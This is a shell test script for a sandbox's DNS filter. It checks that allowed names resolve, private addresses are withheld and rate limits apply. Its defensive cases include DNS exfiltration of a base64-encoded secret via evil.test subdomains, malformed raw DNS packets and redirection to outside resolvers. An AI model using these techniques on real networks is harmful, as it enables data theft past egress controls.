#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Names, as sandboxes of both strengths see them: what is answered, what goes
# upstream, what never does.
. "$(dirname "$0")/../tap.sh"
. "$(dirname "$0")/net.sh"
net_enter
need_tools jq nsenter
tree_new
net_world
SERVER=198.18.0.1
HERE=$(dirname "$0")

# ask SANDBOX udp|tcp LINES...: an answer per line of net_dns.py
ask() {
	ask_pid=$(dsec-ps "$1" | jq .init_pid)
	ask_how=$2
	shift 2
	printf '%s\n' "$@" | nsenter -t "$ask_pid" -n \
		python3 "$HERE/net_dns.py" "$SERVER" "$ask_how"
}

# --- names --------------------------------------------------------------------
RULES='{"allow":[{"domain":"allowed.test"},{"domain":"*.allowed.test"},
	{"domain":"alias.test"},{"domain":"private.test"},{"domain":"mixed.test"},
	{"domain":"toprivate.test"},{"domain":"loopback.test"},
	{"domain":"metadata.test"},{"domain":"node.test"},{"domain":"six.test"},
	{"domain":"gone.test"},{"domain":"hang.test"},{"domain":"svc.test"},
	{"domain":"truncated.test"},{"domain":"many.test"},
	{"domain":"late.test"}],
	"limits":{"dns_per_s":5000}}'
run dsec-run --detach --name n --network "$RULES"
is "$status" 0 "a sandbox of strength names" || diag "$out $err"
N=$(field "$out" .sandbox)

is "$(ask n udp allowed.test | cut -d. -f1)" "NOERROR 198" \
	"a name has a fake address"
is "$(ask n udp allowed.test ALLOWED.Test allowed.test. | sort -u | wc -l)" 1 \
	"in any case, with a dot at the end"
a=$(ask n udp allowed.test) b=$(ask n udp sub.allowed.test)
isnt "$a" "$b" "another name has another one"
is "$(ask n tcp allowed.test sub.allowed.test)" "$a
$b" "the same over TCP, two on one connection"
like "$(ask n udp alias.test)" '^NOERROR 198\.1[89]\.' "an alias"
like "$(ask n udp truncated.test)" '^NOERROR 198\.1[89]\.' \
	"what upstream answers over TCP alone"
is "$(ask n udp 'allowed.test AAAA' 'six.test AAAA' 'svc.test HTTPS' \
	'svc.test SVCB' 'allowed.test MX' 'allowed.test TXT' 'allowed.test SRV' |
	sort -u)" \
	NOERROR "other types: no data"
is "$(ask n udp 'allowed.test ANY' 'allowed.test AXFR' | sort -u)" \
	"REFUSED ede=21" "ANY and transfers are refused"
is "$(ask n udp gone.test)" NXDOMAIN "an allowed name that does not exist"
# Addresses that a name does not open (field report 77).
is "$(ask n udp private.test loopback.test metadata.test node.test \
	toprivate.test | sort -u)" "NOERROR ede=15" \
	"names with private addresses alone have none"
like "$(ask n udp mixed.test)" '^NOERROR 198' "one that has others too does"
echo '{"late.test": [["A", "203.0.113.77", 60]]}' >"$W/zone.json"
like "$(ask n udp late.test)" '^NOERROR 198' "one with an address of nobody's too"
ip addr add 203.0.113.77/24 dev br0
# shellcheck disable=SC2317 # by wait_for
is_the_nodes() { [ "$(ask n udp late.test)" = "NOERROR ede=15" ]; }
wait_for 10 is_the_nodes
ok $? "until that is the node's"
ip addr del 203.0.113.77/24 dev br0
is "$(ask n udp localhost x.localhost | sort -u)" "NOERROR 127.0.0.1" localhost
is "$(ask n udp '1.0.18.198.in-addr.arpa PTR')" NXDOMAIN "a reverse name"

is "$(ask n udp 'within 5000 hang.test')" "SERVFAIL ede=22" \
	"a name that nobody answers for is told within 5 seconds"

# --- what never goes upstream (field report 73) ---------------------------------------------------
secret=$(echo 'all the secrets of this house' | base64 | tr -d '=\n')
is "$(ask n udp 'within 1000 evil.test' "$secret.evil.test" "$secret.evil.test TXT" \
	"evil.test AAAA" "notallowed.test" "allowed.test.evil.test" \
	"xallowed.test" "test" | sort -u)" "NXDOMAIN ede=15" \
	"names that are not allowed"
is "$(ask n tcp 'within 1000 evil.test' "$secret.evil.test" | sort -u)" \
	"NXDOMAIN ede=15" "over TCP too"
is "$(ask n udp '.' | sort -u)" "NXDOMAIN ede=15" "the root"
is "$(ask n udp 'a\00b.allowed.test' 'a\20b.allowed.test' 'a\2eb.allowed.test' \
	'\ff.allowed.test' 'a!.allowed.test' '-a.allowed.test' | sort -u)" "NXDOMAIN ede=15" "names of other bytes"
is "$(dns_saw evil.test)" 0 "nothing of it was seen upstream"
is "$(dns_saw notallowed.test) $(dns_saw xallowed.test)" "0 0" "nor of the others"
is "$(jq -r .name "$W/dns.log" | grep -cvE '^[a-z0-9._-]+$')" 0 \
	"and no name of other bytes"
is "$(jq -r 'select(.type != 1 and .type != 28) | .name' "$W/dns.log" | wc -l)" \
	0 "nor another type than that of addresses"
is "$(jq -r 'select(.name=="'"$secret.evil.test"'") | .why' \
	"$DSEC_LIB/sb/$N/denied.jsonl" | head -n 1)" "" "names are told in lower case"
like "$(jq -r 'select(.why=="name") | .name' "$DSEC_LIB/sb/$N/denied.jsonl")" \
	'\.evil\.test$' "what was tried is told"
like "$(jq -r 'select(.why=="private") | .name' "$DSEC_LIB/sb/$N/denied.jsonl")" \
	'^metadata\.test$' "private addresses too"

# --- messages nobody should send -------------------------------------------------
Q=07616c6c6f77656404746573740000010001
is "$(ask n udp \
	"raw 1234 0100 0002 0000 0000 0000 $Q $Q" \
	"raw 1234 0100 0000 0000 0000 0000" \
	"raw 1234 0100 0001 0000 0000 0000 c00c 0001 0001" \
	"raw 1234 0100 0001 0000 0000 0000 0161 c00c 0001 0001" \
	"raw 1234 0100 0001 0000 0000 0000 3f61" \
	"raw 1234 0100 0001 0001 0000 0000 $Q" \
	"raw 1234 0100 0001 0000 0000 0000 ${Q}00" | sort -u)" FORMERR \
	"two questions, none, loops, cut and padded ones: FORMERR"
is "$(ask n udp "raw 1234 2800 0001 0000 0000 0000 $Q")" NOTIMP "an update"
is "$(ask n udp "raw 1234 0100 0001 0000 0000 0000 ${Q%0001}0003")" REFUSED \
	"class CHAOS"
is "$(ask n tcp "raw $(printf '%02000d' 0)" "raw $(printf '%04000d' 0)")" \
	"FORMERR
closed" "1,000 zeros over TCP, and 2,000"
long=$(printf 'a%.0s' $(seq 63)).$(printf 'b%.0s' $(seq 63)).$(printf 'c%.0s' \
	$(seq 63))
is "$(ask n udp "$long.$(printf 'd%.0s' $(seq 61))")" "NXDOMAIN ede=15" \
	"a name of 253 bytes"
like "$(ask n udp allowed.test)" '^NOERROR 198\.1[89]\.' "it serves as before"

# --- data in names of an allowed wildcard -----------------------------------------
# shellcheck disable=SC2046
ask n udp $(seq 300 | sed "s/.*/&-$(printf 'x%.0s' $(seq 40)).allowed.test/") \
	>"$T/answers"
is "$(dns_saw allowed.test | awk '{print $1 < 200}')" 1 \
	"300 long names: not all of them leave"
is "$(tail -n 1 "$T/answers")" "SERVFAIL ede=0" "the others fail"
like "$(ask n udp allowed.test)" '^NOERROR 198\.1[89]\.' \
	"names in full go on"
like "$(jq -r .why "$DSEC_LIB/sb/$N/denied.jsonl")" '^limit$' "it is told"

# --- limits of rate ----------------------------------------------------------------
run dsec-run --detach --name l \
	--network '{"allow":[{"domain":"allowed.test"}],"limits":{"dns_per_s":20}}'
is "$status" 0 "a sandbox with a limit" || diag "$out $err"
# shellcheck disable=SC2046
ask l udp $(seq 35 | sed 's/.*/allowed.test/') >"$T/answers"
like "$(cat "$T/answers")" '^SERVFAIL ede=0$' "35 queries at once are too many"
like "$(cat "$T/answers")" '^NOERROR 198' "but not all"
like "$(ask n udp allowed.test)" '^NOERROR 198\.1[89]\.' "another one is not limited"

# --- addresses stay ------------------------------------------------------------------
kill -9 "$("$BUILD/bench/netctl" stats | jq .helper.worker)"
ok $? "the worker of the helper is killed"
# shellcheck disable=SC2317 # by wait_for
same_again() { [ "$(ask n udp allowed.test)" = "$a" ]; }
wait_for 10 same_again
ok $? "a name keeps its address with the next one"

# --- routed ---------------------------------------------------------------------------
run dsec-net --uplink up
is "$status" 0 "an uplink" || diag "$out $err"
run dsec-run --detach --name r --network '{"allow":[{"domain":"*.allowed.test"},
	{"domain":"allowed.test"},{"domain":"alias.test"},{"domain":"mixed.test"},
	{"domain":"private.test"},{"domain":"many.test"},
	{"cidr":"198.51.100.11"}]}'
is "$status" 0 "a routed sandbox" || diag "$out $err"
is "$(ask r udp allowed.test alias.test mixed.test | sort -u)" \
	"NOERROR 198.51.100.10" "names have their addresses"
is "$(ask r tcp allowed.test)" "NOERROR 198.51.100.10" "over TCP"
is "$(ask r udp private.test)" "NOERROR ede=15" "but private ones"
is "$(ask r udp 'allowed.test AAAA' 'allowed.test HTTPS' 'allowed.test MX' \
	'allowed.test TXT' 'allowed.test SRV' | sort -u)" NOERROR \
	"other types: no data"
is "$(ask r udp other.evil.test 'other.evil.test TXT' 'other.evil.test MX' \
	'other.evil.test SRV' | sort -u)" \
	"NXDOMAIN ede=15" "what is not allowed"
# No other resolver, whoever asks for one (field report 74).
SERVER=198.51.100.53
is "$(ask r udp allowed.test other.evil.test)" "NOERROR 198.51.100.10
NXDOMAIN ede=15" "whatever server it names"
is "$(ask r tcp other.evil.test)" "NXDOMAIN ede=15" "over TCP"
SERVER=8.8.8.8
is "$(ask r udp other.evil.test)" "NXDOMAIN ede=15" "another one"
is "$(dns_saw evil.test)" 0 "nothing of it was seen upstream"

net_end
done_testing
